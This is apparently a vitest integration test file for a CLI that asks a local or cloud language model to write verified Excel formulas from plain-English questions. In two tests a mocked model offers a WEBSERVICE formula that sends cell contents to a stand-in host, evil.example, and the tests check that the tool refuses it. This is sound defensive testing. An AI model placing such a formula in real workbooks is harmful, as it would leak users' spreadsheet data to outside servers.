import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import os from "node:os";
import path from "node:path";
import { mkdtemp } from "node:fs/promises";
import { OllamaProtocolServer } from "../support/ollama-protocol-server";
import { OpenAiProtocolServer } from "../support/openai-protocol-server";
import { runCli } from "../support/processes";

/** Sales: Region, Date, Product, Revenue; what the README's example asks about. */
async function writeSales(dir: string): Promise<{ file: string; westRevenue2024: number }> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Sales");
  sheet.addRow(["Region", "Date", "Product", "Revenue"]);
  const rows: [string, Date, string, number][] = [
    ["West", new Date(Date.UTC(2024, 0, 15)), "Widget", 1200],
    ["East", new Date(Date.UTC(2024, 1, 3)), "Gadget", 800],
    ["West", new Date(Date.UTC(2023, 11, 30)), "Widget", 999],
    ["West", new Date(Date.UTC(2024, 5, 1)), "Gizmo", 450.5],
    ["North", new Date(Date.UTC(2024, 6, 9)), "Widget", 300],
  ];
  rows.forEach((row) => sheet.addRow(row));
  const file = path.join(dir, "sales.xlsx");
  await workbook.xlsx.writeFile(file);
  // Computed here, independently of the compiler: West rows dated in 2024.
  const westRevenue2024 = rows
    .filter(([r, d]) => r === "West" && d.getUTCFullYear() === 2024)
    .reduce((s, [, , , v]) => s + v, 0);
  return { file, westRevenue2024 };
}

const westIn2024 = {
  kind: "aggregate",
  function: "sum",
  valueColumn: "Revenue",
  criteria: [
    { column: "Region", operator: "equals", value: "West" },
    { column: "Date", operator: "in_year", value: "2024" },
  ],
};

describe("npx excel-slm formula", () => {
  let ollama: OllamaProtocolServer;
  let dir: string;
  let sales: { file: string; westRevenue2024: number };

  beforeAll(async () => {
    ollama = await OllamaProtocolServer.start();
    dir = await mkdtemp(path.join(os.tmpdir(), "slm-formula-"));
    sales = await writeSales(dir);
  });
  afterAll(async () => {
    await ollama.close();
  });
  beforeEach(() => ollama.reset());

  const ask = (extra: string[] = [], env: NodeJS.ProcessEnv = {}) =>
    runCli(
      [
        "formula",
        sales.file,
        "--sheet",
        "Sales",
        "--ask",
        "total revenue for the West region in 2024",
        "--ollama",
        ollama.url,
        "--json",
        ...extra,
      ],
      env,
    );

  it("prints the formula, its value on the sheet and verified: true", async () => {
    ollama.enqueue({ content: JSON.stringify(westIn2024) });
    const result = await ask();
    expect(result.code, result.stderr).toBe(0);
    const json = JSON.parse(result.stdout);
    expect(json).toMatchObject({
      ok: true,
      status: "verified",
      verified: true,
      value: sales.westRevenue2024,
      attempts: 1,
    });
    expect(json.formula).toMatch(/^=SUMIFS\(Sales!\$D\$2:\$D\$6,/);
    const prompt = (ollama.requests.at(-1)?.body as { messages: { content: string }[] }).messages[1]!.content;
    expect(prompt).toContain('"Region" text');
    expect(prompt).toContain("total revenue for the West region in 2024");
  });

  it("feeds an unknown column back to the model and uses the repaired plan", async () => {
    ollama.enqueue(
      { content: JSON.stringify({ ...westIn2024, valueColumn: "Sales Amount" }) },
      { content: JSON.stringify(westIn2024) },
    );
    const json = JSON.parse((await ask()).stdout);
    expect(json).toMatchObject({ verified: true, repairRounds: 1, value: sales.westRevenue2024 });
    const repair = (
      ollama.requests.at(-1)?.body as { messages: { role: string; content: string }[] }
    ).messages.at(-1)!;
    expect(repair.content).toMatch(/Sales Amount/);
    expect(repair.content).toMatch(/Revenue/);
  });

  it("never offers a dangerous formula, even when the model insists", async () => {
    const evil = {
      content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
    };
    ollama.enqueue(evil, evil, evil);
    const result = await ask();
    expect(result.code).toBe(1);
    const json = JSON.parse(result.stdout);
    expect(json).toMatchObject({ ok: false, status: "no-verified-formula", verified: false, formula: null });
    expect(json.error.message).toMatch(/WEBSERVICE is not allowed/);
  });

  it("escalates to the cloud model when no local formula is verified, and proves the cloud's formula too", async () => {
    const key = "sk-cli-formula-escalation-test";
    const cloud = await OpenAiProtocolServer.start({ apiKey: key, models: ["gpt-4o-mini"] });
    const home = await mkdtemp(path.join(os.tmpdir(), "slm-formula-home-"));
    try {
      const evil = {
        content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
      };
      const cloudArgs = ["--cloud", "openai", "--cloud-url", `${cloud.url}/v1`, "--escalate", "auto"];
      const env = { SLM_CLOUD_API_KEY: key, SLM_HOME: home };

      ollama.enqueue(evil, evil, evil);
      cloud.enqueue({ value: { answer: westIn2024 } });
      const escalated = await ask(cloudArgs, env);
      expect(escalated.code, escalated.stderr).toBe(0);
      expect(JSON.parse(escalated.stdout)).toMatchObject({
        status: "verified",
        value: sales.westRevenue2024,
        source: "cloud",
        model: expect.stringMatching(/^gpt-4o-mini/),
        escalation: { route: "cloud", trigger: "no-verified-formula" },
      });

      // The cloud's formula goes through the same safety gate: a dangerous one is not offered.
      ollama.enqueue(evil, evil, evil);
      cloud.enqueue({ value: { answer: JSON.parse(evil.content) as unknown } });
      const refused = await ask(cloudArgs, env);
      expect(refused.code).toBe(1);
      expect(JSON.parse(refused.stdout)).toMatchObject({
        status: "no-verified-formula",
        formula: null,
        source: "cloud",
      });
      expect(JSON.parse(refused.stdout).error.message).toMatch(/cloud model's formula did not pass/);

      // Under "never" the cloud is not asked, and the output says why.
      ollama.enqueue(evil, evil, evil);
      const local = await ask([...cloudArgs.slice(0, 4), "--escalate", "never"], env);
      expect(JSON.parse(local.stdout)).toMatchObject({ source: "local", escalation: { route: "local" } });
      expect(cloud.requests.filter((request) => request.path.endsWith("/chat/completions"))).toHaveLength(2);
    } finally {
      await cloud.close();
    }
  }, 60_000);

  it("writes a verified formula into an empty cell of --out, and refuses a non-empty one", async () => {
    ollama.enqueue({ content: JSON.stringify(westIn2024) });
    const out = path.join(dir, "with-formula.xlsx");
    const written = await ask(["--cell", "F2", "--write", "--out", out]);
    expect(written.code, written.stderr).toBe(0);
    expect(JSON.parse(written.stdout).written).toBe("Sales!F2");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    expect(workbook.getWorksheet("Sales")!.getCell("F2").formula).toMatch(/^SUMIFS\(/);

    const requestsBefore = ollama.requests.length;
    const refused = await ask(["--cell", "A2", "--write", "--out", path.join(dir, "nope.xlsx")]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/Sales!A2 already holds 1 non-empty cell.*Choose an empty --cell/);
    expect(ollama.requests.length).toBe(requestsBefore); // refused before any model time was spent
  });
});
